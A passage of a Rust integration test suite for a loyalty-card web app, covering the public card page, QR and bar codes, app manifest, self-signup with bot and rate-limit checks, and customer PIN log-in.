//! The customer pages, used as people with a browser would: the card page behind its secret
//! link, joining, the customer log-in and account, erasure, new cards and printed cards.
//! Each test starts its own `fealty serve`; staff use the admin pages in their own browser.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::pages::*;

use std::collections::BTreeSet;
use std::time::Duration;

use common::{Api, TestServer, luhn_ok};
use serde_json::{Value, json};

/// Longer than the join form's minimum fill-in time (2 s).
const HUMAN_PAUSE: Duration = Duration::from_millis(2300);

fn str_of<'a>(v: &'a Value, field: &str) -> &'a str {
    v[field]
        .as_str()
        .unwrap_or_else(|| panic!("no string `{field}` in {v}"))
}

/// `/c/{card_token}` of an API member.
fn card_path(m: &Value) -> String {
    format!("/c/{}", str_of(m, "card_token"))
}

/// Only the digits of `s`.
fn digits(s: &str) -> String {
    s.chars().filter(char::is_ascii_digit).collect()
}

fn has_id(html: &str, id: &str) -> bool {
    tags(html).iter().any(|t| t.attr("id") == Some(id))
}

fn has_form(html: &str, id: &str) -> bool {
    tags(html)
        .iter()
        .any(|t| t.name == "form" && t.attr("id") == Some(id))
}

/// The text of `#id`, or a panic that shows the page.
#[track_caller]
fn text_of(html: &str, id: &str) -> String {
    by_id(html, id)
        .unwrap_or_else(|| panic!("no #{id} on the page: {}", snippet(html)))
        .text()
}

/// Every member the API lists (tests stay under 100).
async fn members(api: &Api) -> Vec<Value> {
    api.get("/members?limit=100").await.expect_status(200)["items"]
        .as_array()
        .expect("items")
        .clone()
}

async fn member_with_email(api: &Api, email: &str) -> Option<Value> {
    members(api)
        .await
        .into_iter()
        .find(|m| m["email"].as_str() == Some(email))
}

/// Saves the owner's settings form with `set` filled in and the checkboxes in `untick` cleared.
async fn save_settings(owner: &mut Browser, set: &[(&str, &str)], untick: &[&str]) {
    let page = owner.page("/admin/settings").await;
    let mut f = form(&page, "settings");
    f.fields.retain(|(k, _)| !untick.contains(&k.as_str()));
    let p = owner.submit(&f, set).await;
    p.expect(303);
    let loc = p.location().unwrap_or_default();
    assert_eq!(loc.split('?').next(), Some("/admin/settings"), "{loc:?}");
}

/// Sets a customer password/PIN with form#set-password on the card page (none set yet),
/// confirming it with the email or phone number on file.
async fn set_pin(b: &mut Browser, card: &str, contact: &str, pin: &str) {
    let html = b.page(card).await;
    let f = form(&html, "set-password");
    let p = b
        .submit(
            &f,
            &[("contact", contact), ("password", pin), ("confirm", pin)],
        )
        .await;
    p.expect(303);
    let loc = p.location().unwrap_or_default();
    assert_eq!(loc.split('?').next(), Some(card), "set-password redirect");
}

/// Points of each ledger entry, by sequence number.
fn points_by_seq(entries: &[Value]) -> Vec<(u64, String, i64)> {
    let mut out: Vec<(u64, String, i64)> = entries
        .iter()
        .map(|e| {
            (
                e["seq"].as_u64().expect("seq"),
                e["kind"].as_str().expect("kind").to_owned(),
                e["points"].as_i64().expect("points"),
            )
        })
        .collect();
    out.sort();
    out
}

/// Width and height from a PNG's IHDR chunk.
fn png_size(bytes: &[u8]) -> (u32, u32) {
    assert!(
        bytes.len() > 24 && bytes.starts_with(b"\x89PNG\r\n\x1a\n") && &bytes[12..16] == b"IHDR",
        "not a PNG ({} bytes)",
        bytes.len()
    );
    let be = |i: usize| u32::from_be_bytes([bytes[i], bytes[i + 1], bytes[i + 2], bytes[i + 3]]);
    (be(16), be(20))
}

/// The `div.print-card`s of a printed sheet.
fn print_cards(html: &str) -> Vec<Elem<'_>> {
    select(html, |t| t.name == "div" && t.has_class("print-card"))
}

/// The 12-digit numbers printed on a sheet, in order; each card has its parts.
#[track_caller]
fn printed_numbers(html: &str, business: &str) -> Vec<String> {
    print_cards(html)
        .iter()
        .map(|c| {
            for (tag, class) in [("svg", "qr"), ("svg", "barcode")] {
                assert_eq!(
                    select(c.inner, |t| t.name == tag && t.has_class(class)).len(),
                    1,
                    "{tag}.{class} in a card: {}",
                    c.inner.chars().take(600).collect::<String>()
                );
            }
            let biz = select(c.inner, |t| t.has_class("business"));
            assert!(
                biz.first().is_some_and(|b| b.text() == business),
                ".business is {business:?}: {:?}",
                biz.first().map(Elem::text)
            );
            let n = select(c.inner, |t| t.has_class("number"))
                .first()
                .map(|e| digits(&e.text()))
                .expect(".number in a card");
            assert!(n.len() == 12 && luhn_ok(&n), "card number {n:?}");
            let bar = svg_markup(c.inner, |t| t.has_class("barcode")).unwrap();
            assert!(barcode_encodes(bar, &n), "svg.barcode is Code 128 of {n}");
            n
        })
        .collect()
}

/// The QR code (`svg.qr`) on the printed card with `number`.
#[track_caller]
fn printed_qr<'a>(html: &'a str, number: &str) -> &'a str {
    print_cards(html)
        .into_iter()
        .find(|c| {
            select(c.inner, |t| t.has_class("number"))
                .first()
                .is_some_and(|e| digits(&e.text()) == number)
        })
        .and_then(|c| svg_markup(c.inner, |t| t.has_class("qr")))
        .unwrap_or_else(|| panic!("no printed card {number} with an svg.qr"))
}

/// Another valid card number.
fn card_number_other(n: &str) -> String {
    common::card_number(n[..11].parse::<u64>().unwrap() + 1)
}

fn sheets(html: &str) -> Vec<Elem<'_>> {
    select(html, |t| t.name == "section" && t.has_class("sheet"))
}

// ---------------------------------------------------------------------------------------------
// Reading the drawn codes back: the dark unit cells of an SVG, compared with what a QR or
// Code 128 encoder makes of the expected text.
// ---------------------------------------------------------------------------------------------

/// The numbers in an SVG path or attribute, with their command letters.
fn path_commands(d: &str) -> Vec<(char, Vec<f64>)> {
    let mut out: Vec<(char, Vec<f64>)> = Vec::new();
    let mut num = String::new();
    let flush = |num: &mut String, out: &mut Vec<(char, Vec<f64>)>| {
        if !num.is_empty() {
            if let (Ok(v), Some(last)) = (num.parse::<f64>(), out.last_mut()) {
                last.1.push(v);
            }
            num.clear();
        }
    };
    for c in d.chars() {
        if c.is_ascii_alphabetic() && c != 'e' && c != 'E' {
            flush(&mut num, &mut out);
            out.push((c, Vec::new()));
        } else if c == '-' {
            flush(&mut num, &mut out);
            num.push(c);
        } else if c.is_ascii_digit() || c == '.' {
            num.push(c);
        } else {
            flush(&mut num, &mut out);
        }
    }
    flush(&mut num, &mut out);
    out
}

fn is_white(fill: Option<&str>) -> bool {
    fill.is_some_and(|f| {
        let f = f.trim().to_ascii_lowercase();
        f == "#fff" || f == "#ffffff" || f == "white" || f == "none"
    })
}

/// Every dark unit cell of an SVG drawn with axis-aligned rectangles: `<rect>`s and path
/// sub-paths of the form `M x y h w v h …`.
fn svg_cells(svg: &str) -> BTreeSet<(i64, i64)> {
    let mut cells = BTreeSet::new();
    let mut fill_rect = |x: f64, y: f64, w: f64, h: f64| {
        let (x0, x1) = if w < 0.0 { (x + w, x) } else { (x, x + w) };
        let (y0, y1) = if h < 0.0 { (y + h, y) } else { (y, y + h) };
        #[allow(clippy::cast_possible_truncation)]
        for cx in (x0.round() as i64)..(x1.round() as i64) {
            for cy in (y0.round() as i64)..(y1.round() as i64) {
                cells.insert((cx, cy));
            }
        }
    };
    for t in tags(svg) {
        let attr = |n: &str| t.attr(n).and_then(|v| v.trim().parse::<f64>().ok());
        match t.name.as_str() {
            "rect" if !is_white(t.attr("fill")) => {
                if let (Some(w), Some(h)) = (attr("width"), attr("height")) {
                    fill_rect(attr("x").unwrap_or(0.0), attr("y").unwrap_or(0.0), w, h);
                }
            }
            "path" if !is_white(t.attr("fill")) => {
                let (mut x, mut y) = (0.0, 0.0);
                let (mut w, mut h) = (None, None);
                let (mut sx, mut sy) = (0.0, 0.0);
                for (cmd, args) in path_commands(t.attr("d").unwrap_or_default()) {
                    match cmd {
                        'M' | 'm' if args.len() >= 2 => {
                            if let (Some(w), Some(h)) = (w, h) {
                                fill_rect(sx, sy, w, h);
                            }
                            (w, h) = (None, None);
                            if cmd == 'M' {
                                (x, y) = (args[0], args[1]);
                            } else {
                                (x, y) = (x + args[0], y + args[1]);
                            }
                            (sx, sy) = (x, y);
                        }
                        'h' if w.is_none() && !args.is_empty() => w = Some(args[0]),
                        'H' if w.is_none() && !args.is_empty() => w = Some(args[0] - sx),
                        'v' if h.is_none() && !args.is_empty() => h = Some(args[0]),
                        'V' if h.is_none() && !args.is_empty() => h = Some(args[0] - sy),
                        'z' | 'Z' => {
                            if let (Some(w), Some(h)) = (w, h) {
                                fill_rect(sx, sy, w, h);
                            }
                            (w, h) = (None, None);
                            (x, y) = (sx, sy);
                        }
                        _ => {}
                    }
                }
                if let (Some(w), Some(h)) = (w, h) {
                    fill_rect(sx, sy, w, h);
                }
            }
            _ => {}
        }
    }
    cells
}

/// Whether the SVG draws a QR code of exactly `text` (any error-correction level, any margin).
fn qr_encodes(svg: &str, text: &str) -> bool {
    let cells = svg_cells(svg);
    let (Some(min_x), Some(min_y)) = (
        cells.iter().map(|c| c.0).min(),
        cells.iter().map(|c| c.1).min(),
    ) else {
        return false;
    };
    [
        qrcode::EcLevel::L,
        qrcode::EcLevel::M,
        qrcode::EcLevel::Q,
        qrcode::EcLevel::H,
    ]
    .into_iter()
    .filter_map(|ec| qrcode::QrCode::with_error_correction_level(text.as_bytes(), ec).ok())
    .any(|code| {
        let w = code.width();
        let expected: BTreeSet<(i64, i64)> = code
            .to_colors()
            .into_iter()
            .enumerate()
            .filter(|(_, c)| *c == qrcode::Color::Dark)
            .map(|(i, _)| {
                (
                    i64::try_from(i % w).unwrap() + min_x,
                    i64::try_from(i / w).unwrap() + min_y,
                )
            })
            .collect();
        expected == cells
    })
}

/// Whether the SVG draws a Code 128 bar code of `number` (code set C or B).
fn barcode_encodes(svg: &str, number: &str) -> bool {
    let columns: BTreeSet<i64> = svg_cells(svg).into_iter().map(|c| c.0).collect();
    let (Some(&first), Some(&last)) = (columns.first(), columns.last()) else {
        return false;
    };
    let drawn: Vec<u8> = (first..=last)
        .map(|x| u8::from(columns.contains(&x)))
        .collect();
    ['\u{0106}', '\u{0181}'].into_iter().any(|set| {
        barcoders::sym::code128::Code128::new(format!("{set}{number}")).is_ok_and(|c| {
            let bars = c.encode();
            let start = bars.iter().position(|b| *b == 1).unwrap_or(0);
            let end = bars.iter().rposition(|b| *b == 1).map_or(0, |e| e + 1);
            bars[start..end] == drawn[..]
        })
    })
}

/// The first `svg` matching `pred` inside `html`, as markup.
fn svg_markup(html: &str, pred: impl Fn(&Tag) -> bool) -> Option<&str> {
    select(html, |t| t.name == "svg" && pred(t))
        .into_iter()
        .next()
        .map(|e| e.inner)
}

// ---------------------------------------------------------------------------------------------
// 1. The card page.
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn card_page_shows_the_card_and_staff_add_points_from_it() {
    let (server, mut owner, api) = owner_session().await;
    save_settings(&mut owner, &[("business_name", "Café Nord & Co")], &[]).await;
    let reward = |name: &str, cost: i64| {
        let api = api.clone();
        let body = json!({"name": name, "cost": cost});
        async move { id_of(&api.post("/rewards", &body).await.expect_status(201)) }
    };
    let coffee = reward("Coffee", 50).await;
    reward("Cake", 120).await;
    let mug = reward("Retired Mug", 10).await;
    api.patch(&format!("/rewards/{mug}"), &json!({"active": false}))
        .await
        .expect_status(200);

    let m = api
        .create_member(&json!({"name": "Ada King Lovelace", "email": "ada@example.com"}))
        .await;
    let id = id_of(&m);
    let card_no = str_of(&m, "card_number").to_owned();
    for p in [5, 5, 1, 2, 3, 4, 1, 2, 3, 1, 2, 1] {
        api.earn(&id, p).await;
    }
    let card = card_path(&m);

    // Anyone with the link sees the card; no log-in.
    let mut anon = Browser::new(&server);
    let p = anon.get(&card).await;
    p.expect(200);
    assert!(p.content_type().starts_with("text/html"), "{p:?}");
    let html = p.text;
    assert_eq!(text_of(&html, "business"), "Café Nord & Co");
    assert_eq!(text_of(&html, "first-name"), "Ada");
    assert_eq!(data_value(&html, "balance"), 30);
    let next = text_of(&html, "next-reward");
    assert!(
        next.contains("20 more points to Coffee"),
        "#next-reward: {next:?}"
    );
    let progress = tags(&html)
        .into_iter()
        .find(|t| t.name == "progress" && t.attr("id") == Some("reward-progress"))
        .unwrap_or_else(|| panic!("no progress#reward-progress: {}", snippet(&html)));
    let value: f64 = progress
        .attr("value")
        .expect("progress value")
        .parse()
        .unwrap();
    let max: f64 = progress.attr("max").unwrap_or("1").parse().unwrap();
    assert!(
        (value / max - 0.6).abs() < 0.011,
        "30 of 50 points towards Coffee: value {value} max {max}"
    );

    // Active rewards with their costs; the retired one is not offered.
    let mut rewards: Vec<(String, i64)> = rows(&html, "rewards")
        .iter()
        .map(|r| {
            (
                cell(r, "td", "name").expect("td.name"),
                number(&cell(r, "td", "cost").expect("td.cost")),
            )
        })
        .collect();
    rewards.sort();
    assert_eq!(
        rewards,
        vec![("Cake".to_owned(), 120), ("Coffee".to_owned(), 50)]
    );
    assert!(!text(&html).contains("Retired Mug"));

    // The ten most recent entries, newest first.
    let entries = api.all_transactions(&id, 100).await;
    assert_eq!(entries.len(), 12);
    let shown: Vec<i64> = rows(&html, "activity")
        .iter()
        .map(|r| number(&cell(r, "td", "points").expect("td.points")))
        .collect();
    let recent: Vec<i64> = entries
        .iter()
        .take(10)
        .map(|e| e["points"].as_i64().unwrap())
        .collect();
    assert_eq!(shown, recent, "table#activity = the 10 newest entries");

    // The card itself: number, a QR code of exactly its URL, a bar code of the number.
    assert_eq!(digits(&text_of(&html, "card-number")), card_no);
    for svg in ["card-qr", "card-barcode"] {
        assert_eq!(
            select(&html, |t| t.name == "svg" && t.attr("id") == Some(svg)).len(),
            1,
            "svg#{svg}"
        );
    }
    let url = server.url(&card);
    assert_eq!(m["card_url"], url.as_str(), "the API's card_url");
    let qr = svg_markup(&html, |t| t.attr("id") == Some("card-qr")).unwrap();
    assert!(qr_encodes(qr, &url), "svg#card-qr is a QR code of {url}");
    assert!(!qr_encodes(qr, &format!("{url}x")), "the QR check can fail");
    let bar = svg_markup(&html, |t| t.attr("id") == Some("card-barcode")).unwrap();
    assert!(
        barcode_encodes(bar, &card_no),
        "svg#card-barcode is Code 128 of {card_no}"
    );
    assert!(!barcode_encodes(bar, &card_number_other(&card_no)));
    assert!(
        tags(&html).iter().any(|t| t.name == "link"
            && t.attr("rel") == Some("manifest")
            && t.attr("href") == Some(&format!("{card}/manifest.webmanifest"))),
        "manifest link"
    );

    // Nothing for staff when no staff member is logged in in this browser.
    for f in ["staff-earn", "staff-redeem"] {
        assert!(
            !has_form(&html, f),
            "form#{f} shown to an anonymous visitor"
        );
    }
    assert!(
        !tags(&html)
            .iter()
            .any(|t| t.name == "form" && t.attr("action").is_some_and(|a| a.starts_with("/admin"))),
        "no admin form on the public card page"
    );

    // No name: no first name shown.
    let nameless = api
        .create_member(&json!({"email": "nameless@example.com"}))
        .await;
    let html = anon.page(&card_path(&nameless)).await;
    assert!(!has_id(&html, "first-name"), "#first-name without a name");
    assert_eq!(data_value(&html, "balance"), 0);

    // Unknown tokens, including one that looks like a real one.
    let token = str_of(&m, "card_token");
    let mut lookalike: Vec<char> = token.chars().collect();
    let last = lookalike.len() - 1;
    lookalike[last] = if lookalike[last] == 'A' { 'B' } else { 'A' };
    let lookalike: String = lookalike.into_iter().collect();
    for t in ["nope", lookalike.as_str()] {
        anon.get(&format!("/c/{t}")).await.expect_card_not_found();
    }

    // A staff member logged in in the same browser gets the till on the card page.
    add_user(&server, "sam", "staff");
    let mut staff = Browser::new(&server);
    staff.login_ok("sam", PASSWORD).await;
    let html = staff.page(&card).await;
    let earn = form(&html, "staff-earn");
    assert_eq!(earn.action, format!("/admin/members/{id}/earn"));
    assert_eq!(earn.method, "post");
    for hidden in ["csrf", "form_token"] {
        assert!(
            earn.value(hidden).is_some_and(|v| !v.is_empty()),
            "form#staff-earn {hidden}"
        );
    }
    // (form#staff-redeem may be left out while no reward is affordable, as on the member page.)

    // Preview, then confirm: the card page shows the new balance.
    let p = staff.submit(&earn, &[("amount", "100.00")]).await;
    p.expect(200);
    assert!(
        text(&p.text).contains("earns 100 points"),
        "preview: {}",
        snippet(&p.text)
    );
    assert_eq!(api.balance(&id).await, 30, "a preview writes nothing");
    let confirm = form(&p.text, "confirm-earn");
    staff.submit(&confirm, &[]).await.expect(200);
    assert_eq!(api.balance(&id).await, 130);
    let html = anon.page(&card).await;
    assert_eq!(data_value(&html, "balance"), 130);
    let next = text_of(&html, "next-reward");
    assert!(next.contains("You can redeem"), "#next-reward: {next:?}");
    assert_eq!(
        number(&cell(&rows(&html, "activity")[0], "td", "points").unwrap()),
        100
    );

    // A redemption from the card page.
    let html = staff.page(&card).await;
    let redeem = form(&html, "staff-redeem");
    assert_eq!(redeem.action, format!("/admin/members/{id}/redeem"));
    assert_eq!(redeem.method, "post");
    staff
        .submit(&redeem, &[("reward_id", &coffee)])
        .await
        .expect(200);
    assert_eq!(api.balance(&id).await, 80);
    let html = anon.page(&card).await;
    assert_eq!(data_value(&html, "balance"), 80);
    assert_eq!(
        number(&cell(&rows(&html, "activity")[0], "td", "points").unwrap()),
        -50
    );
    // Still nothing for the anonymous browser.
    assert!(!has_form(&html, "staff-earn"));
}

// ---------------------------------------------------------------------------------------------
// 2. Manifest, service worker and icons.
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn card_installs_as_an_app_with_manifest_icons_and_service_worker() {
    let (server, mut owner, api) = owner_session().await;
    save_settings(
        &mut owner,
        &[("business_name", "Café Nord"), ("brand_colour", "#aa3300")],
        &[],
    )
    .await;
    let m = api.create_member(&json!({"name": "Ian Install"})).await;
    let card = card_path(&m);
    let mut anon = Browser::new(&server);
    let html = anon.page(&card).await;

    // The page names its manifest and a fingerprinted script that registers the worker.
    let manifest_href = tags(&html)
        .into_iter()
        .find(|t| t.name == "link" && t.attr("rel") == Some("manifest"))
        .and_then(|t| t.attr("href").map(str::to_owned))
        .expect("link[rel=manifest]");
    assert_eq!(manifest_href, format!("{card}/manifest.webmanifest"));
    let script = tags(&html)
        .into_iter()
        .find(|t| {
            t.name == "script"
                && t.attr("src")
                    .is_some_and(|s| s.starts_with("/assets/card.") && s.ends_with(".js"))
        })
        .unwrap_or_else(|| panic!("no script /assets/card.<hash>.js: {}", snippet(&html)));
    assert!(script.has_attr("defer"), "the card script is deferred");
    let js = anon.get(script.attr("src").unwrap()).await;
    js.expect(200);
    assert!(js.content_type().contains("javascript"), "{js:?}");
    assert!(
        js.text.contains("serviceWorker") && js.text.contains("/c/sw.js"),
        "card script registers /c/sw.js"
    );

    // The manifest.
    let mf = anon.get(&manifest_href).await;
    mf.expect(200);
    assert!(
        mf.content_type().starts_with("application/manifest+json"),
        "manifest content type {:?}",
        mf.content_type()
    );
    let mj: Value = serde_json::from_str(&mf.text).expect("manifest is JSON");
    assert_eq!(mj["name"], "Café Nord", "{mj}");
    assert!(
        mj["short_name"].as_str().is_some_and(|s| !s.is_empty()),
        "{mj}"
    );
    assert_eq!(mj["start_url"], card.as_str(), "{mj}");
    assert_eq!(mj["scope"], "/c/", "{mj}");
    assert_eq!(mj["display"], "standalone", "{mj}");
    assert_eq!(
        mj["theme_color"].as_str().map(str::to_ascii_lowercase),
        Some("#aa3300".to_owned()),
        "theme_color is the brand colour: {mj}"
    );
    let icons = mj["icons"].as_array().expect("icons");
    let mut seen = BTreeSet::new();
    for icon in icons {
        let src = str_of(icon, "src");
        let sizes = str_of(icon, "sizes");
        let expected = match src {
            "/c/icon-192.png" => 192,
            "/c/icon-512.png" => 512,
            other => panic!("unexpected icon {other:?}"),
        };
        assert_eq!(sizes, format!("{expected}x{expected}"), "{icon}");
        if let Some(t) = icon["type"].as_str() {
            assert_eq!(t, "image/png");
        }
        let png = anon.get(src).await;
        png.expect(200);
        assert_eq!(png.content_type(), "image/png", "{src}");
        assert_eq!(png_size(&png.bytes), (expected, expected), "{src}");
        seen.insert(expected);
    }
    assert_eq!(seen, BTreeSet::from([192, 512]), "both icons listed");

    // The service worker may control all of /c/.
    let sw = anon.get("/c/sw.js").await;
    sw.expect(200);
    assert!(
        sw.content_type().contains("javascript"),
        "sw.js content type {:?}",
        sw.content_type()
    );
    assert_eq!(sw.header("service-worker-allowed"), Some("/c/"));
    assert!(!sw.text.trim().is_empty());
}

// ---------------------------------------------------------------------------------------------
// 3. Joining.
// ---------------------------------------------------------------------------------------------

const WORDING: &str = "Yes, send me Café Nord offers by email, at most once a month.";

#[tokio::test]
async fn joining_creates_a_member_and_keeps_the_consent_wording() {
    let (server, mut owner, api) = owner_session().await;
    save_settings(&mut owner, &[("consent_wording", WORDING)], &[]).await;
    let settings = owner.page("/admin/settings").await;
    let sf = form(&settings, "settings");
    assert_eq!(sf.value("consent_wording"), Some(WORDING));
    assert_eq!(sf.value("self_signup"), Some("on"), "self-sign-up is on");

    // The form: its fields, the owner's consent wording as the checkbox's label.
    let mut fast = Browser::new(&server);
    let html = fast.page("/join").await;
    let jf = form(&html, "join");
    assert_eq!(jf.action, "/join");
    assert_eq!(jf.method, "post");
    for field in ["name", "email", "phone", "website"] {
        assert_eq!(jf.value(field), Some(""), "empty field {field}");
    }
    assert!(
        jf.value("started").is_some_and(|v| !v.is_empty()),
        "signed `started`"
    );
    let consent = tags(&html)
        .into_iter()
        .find(|t| t.attr("name") == Some("marketing_consent"))
        .expect("marketing_consent checkbox");
    assert_eq!(consent.attr("type"), Some("checkbox"));
    assert!(!consent.has_attr("checked"), "consent is not pre-ticked");
    let labels: Vec<String> = select(&html, |t| t.name == "label")
        .iter()
        .map(Elem::text)
        .collect();
    assert!(
        labels.iter().any(|l| l.contains(WORDING)),
        "a label with the consent wording: {labels:?}"
    );

    // Sent at once after loading: refused, nothing created.
    let p = fast
        .submit(
            &jf,
            &[("name", "Quick Quentin"), ("email", "quick@example.com")],
        )
        .await;
    p.expect(422);
    assert!(!text(&p.text).is_empty());

    // Load the other forms together, then pause once like a person filling them in.
    let mut good = Browser::new(&server);
    let good_form = good.join_form("/join").await;
    let mut bad = Browser::new(&server);
    let bad_form = bad.join_form("/join").await;
    let mut bot = Browser::new(&server);
    let bot_form = bot.join_form("/join").await;
    let mut late = Browser::new(&server);
    let late_form = late.join_form("/join").await;
    tokio::time::sleep(HUMAN_PAUSE).await;

    // A bot fills in the hidden field: refused with a message, nothing created.
    let p = bot
        .submit(
            &bot_form,
            &[
                ("name", "Botty McBot"),
                ("email", "bot@example.com"),
                ("website", "http://spam.example/"),
            ],
        )
        .await;
    p.expect(422);
    assert!(!text(&p.text).is_empty());

    // A bad email: 422 beside the field, everything typed kept.
    let p = bad
        .submit(
            &bad_form,
            &[
                ("name", "Betty Badmail"),
                ("email", "not-an-email"),
                ("phone", ""),
                ("marketing_consent", "on"),
            ],
        )
        .await;
    p.expect(422);
    assert!(has_id(&p.text, "email-error"), "#email-error");
    let kept = form(&p.text, "join");
    assert_eq!(kept.value("name"), Some("Betty Badmail"));
    assert_eq!(kept.value("email"), Some("not-an-email"));
    assert!(members(&api).await.is_empty(), "nothing was created");
    assert!(member_with_email(&api, "bot@example.com").await.is_none());

    // A good one: straight to the new member's card.
    let p = good
        .submit(
            &good_form,
            &[
                ("name", "Joan Joiner"),
                ("email", "joan@example.com"),
                ("marketing_consent", "on"),
            ],
        )
        .await;
    p.expect(303);
    let loc = p.location().unwrap().to_owned();
    let loc = loc.strip_prefix(&server.url("")).unwrap_or(&loc).to_owned();
    let joan = member_with_email(&api, "joan@example.com")
        .await
        .expect("the member exists");
    assert_eq!(
        loc,
        format!("{}?welcome=1", card_path(&joan)),
        "redirect to the card page, with its welcome"
    );
    assert_eq!(joan["name"], "Joan Joiner");
    assert_eq!(joan["balance"], 0);
    assert!(joan["marketing_consent_at"].is_string(), "{joan}");
    assert_eq!(members(&api).await.len(), 1, "one member");
    let html = good.page(&loc).await;
    assert_eq!(text_of(&html, "first-name"), "Joan");
    assert!(by_id(&html, "welcome").is_some(), "#welcome after joining");
    let plain = good.page(&card_path(&joan)).await;
    assert!(
        by_id(&plain, "welcome").is_none(),
        "#welcome on a later visit"
    );
    assert_eq!(
        digits(&text_of(&html, "card-number")),
        str_of(&joan, "card_number")
    );

    // The owner rewords the consent later: Joan's record keeps the words she agreed to.
    save_settings(
        &mut owner,
        &[("consent_wording", "Different words now.")],
        &[],
    )
    .await;
    set_pin(&mut good, &card_path(&joan), "joan@example.com", "135790").await;
    good.customer_login_ok("joan@example.com", "135790").await;
    let account = good.page("/account").await;
    assert!(
        text(&account).contains(WORDING),
        "/account shows the wording Joan agreed to: {}",
        snippet(&account)
    );
    let data = good.get("/account/data.json").await;
    data.expect(200);
    let data: Value = serde_json::from_str(&data.text).expect("data download is JSON");
    assert_eq!(
        data["member"]["marketing_consent_text"], WORDING,
        "stored wording: {data}"
    );

    // Self-sign-up switched off: the form and a form already on screen are both refused.
    save_settings(&mut owner, &[], &["self_signup"]).await;
    let settings = owner.page("/admin/settings").await;
    assert_eq!(form(&settings, "settings").value("self_signup"), None);
    let p = late.get("/join").await;
    p.expect(403);
    assert!(
        p.text.to_lowercase().contains("ask at the counter"),
        "{}",
        snippet(&p.text)
    );
    let p = late
        .submit(
            &late_form,
            &[("name", "Larry Late"), ("email", "larry@example.com")],
        )
        .await;
    p.expect(403);
    assert!(p.text.to_lowercase().contains("ask at the counter"));
    assert!(member_with_email(&api, "larry@example.com").await.is_none());

    // And on again.
    save_settings(&mut owner, &[("self_signup", "on")], &[]).await;
    late.page("/join").await;
}

#[tokio::test]
async fn more_than_ten_joins_an_hour_from_one_address_are_refused() {
    let server = TestServer::start();
    let api = server.client();
    let mut people = Vec::new();
    for _ in 0..11 {
        let mut b = Browser::new(&server);
        let f = b.join_form("/join").await;
        people.push((b, f));
    }
    tokio::time::sleep(HUMAN_PAUSE).await;
    let (mut eleventh, eleventh_form) = people.pop().unwrap();

    let mut set = tokio::task::JoinSet::new();
    for (n, (mut b, f)) in people.into_iter().enumerate() {
        set.spawn(async move {
            let name = format!("Joiner Number{n}");
            let email = format!("joiner{n}@example.com");
            let p = b.submit(&f, &[("name", &name), ("email", &email)]).await;
            (p.status, snippet(&p.text))
        });
    }
    while let Some(r) = set.join_next().await {
        let (status, body) = r.unwrap();
        assert_eq!(status, 303, "one of the first ten joins: {body}");
    }
    assert_eq!(members(&api).await.len(), 10);

    let p = eleventh
        .submit(
            &eleventh_form,
            &[("name", "Eleven Toomany"), ("email", "eleven@example.com")],
        )
        .await;
    p.expect(429);
    assert_eq!(members(&api).await.len(), 10, "the 11th was not created");
}

// ---------------------------------------------------------------------------------------------
// 4. Customer password, log-in and account.
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn customers_set_a_pin_log_in_and_manage_their_account() {
    let (server, mut owner, api) = owner_session().await;
    let m = api
        .create_member(&json!({"name": "Grace Hopper", "email": "grace@example.com"}))
        .await;
    let id = id_of(&m);
    let number = str_of(&m, "card_number").to_owned();
    let card = card_path(&m);
    api.earn(&id, 40).await;
    api.earn(&id, 15).await;
    let tea = id_of(
        &api.post("/rewards", &json!({"name": "Tea", "cost": 20}))
            .await
            .expect_status(201),
    );
    api.post_idem(
        &format!("/members/{id}/redemptions"),
        &common::fresh_key(),
        &json!({"reward_id": tea}),
    )
    .await
    .expect_status(201);
    api.transaction(
        &id,
        &common::fresh_key(),
        &json!({"kind": "adjust", "points": -3, "reason": "spilt tea"}),
    )
    .await
    .expect_status(201);
    assert_eq!(api.balance(&id).await, 32);

    // Setting a PIN on the card page: weak ones are refused beside the field.
    let mut cust = Browser::new(&server);
    let html = cust.page(&card).await;
    let f = form(&html, "set-password");
    assert_eq!(f.action, format!("{card}/password"));
    assert_eq!(f.method, "post");
    assert!(f.value("current").is_none(), "no current password yet");
    for (pw, confirm) in [
        ("12345", "12345"),
        ("12345a", "12345a"),
        ("too short", "too short"),
        ("246810", "246811"),
    ] {
        let p = cust
            .submit(&f, &[("password", pw), ("confirm", confirm)])
            .await;
        p.expect(422);
        assert!(
            has_id(&p.text, "password-error")
                || (pw != confirm && has_id(&p.text, "confirm-error")),
            "#password-error for {pw:?}/{confirm:?}"
        );
    }
    let p = cust
        .submit(
            &f,
            &[
                ("contact", "grace@example.com"),
                ("password", "246810"),
                ("confirm", "246810"),
            ],
        )
        .await;
    p.expect(303);
    assert_eq!(
        p.location().unwrap_or_default().split('?').next(),
        Some(card.as_str())
    );
    let back = cust.follow(&p).await;
    back.expect(200);
    assert!(has_id(&back.text, "result"), "#result after setting a PIN");
    let html = cust.page(&card).await;
    assert!(
        form(&html, "set-password").value("current").is_some(),
        "changing it needs the current one"
    );

    // Not logged in: /account sends you to /login.
    Browser::new(&server)
        .get("/account")
        .await
        .expect_redirect("/login");

    // Log in with the card number.
    let mut a = Browser::new(&server);
    let p = a.customer_login(&number, "246810").await;
    p.expect_redirect("/account");
    let cookie = p.set_cookie(MEMBER_COOKIE).expect("a fealty_member cookie");
    let lower = cookie.to_ascii_lowercase();
    assert!(lower.contains("httponly"), "{cookie}");
    assert!(lower.contains("samesite=lax"), "{cookie}");
    let session = cookie
        .split(';')
        .next()
        .unwrap()
        .trim()
        .trim_start_matches(&format!("{MEMBER_COOKIE}="))
        .to_owned();
    let account = a.page("/account").await;
    assert_eq!(data_value(&account, "balance"), 32);
    let entries = api.all_transactions(&id, 100).await;
    assert_eq!(rows(&account, "history").len(), entries.len());
    // A logged-in customer is not staff.
    let html = a.page(&card).await;
    assert!(!has_form(&html, "staff-earn") && !has_form(&html, "staff-redeem"));

    // Log in with the email, in another browser.
    let mut e = Browser::new(&server);
    e.customer_login_ok("grace@example.com", "246810").await;
    let other_account = e.page("/account").await;
    let foreign_csrf = form(&other_account, "details")
        .value("csrf")
        .unwrap()
        .to_owned();

    // Wrong password, unknown person: 401 with the message, no cookie.
    let mut w = Browser::new(&server);
    for (ident, pw) in [
        (number.as_str(), "135791"),
        ("grace@example.com", "wrong password"),
        ("nobody@example.com", "246810"),
    ] {
        let p = w.customer_login(ident, pw).await;
        p.expect(401);
        assert!(
            text(&p.text).contains("Wrong card number, email or password"),
            "{}",
            snippet(&p.text)
        );
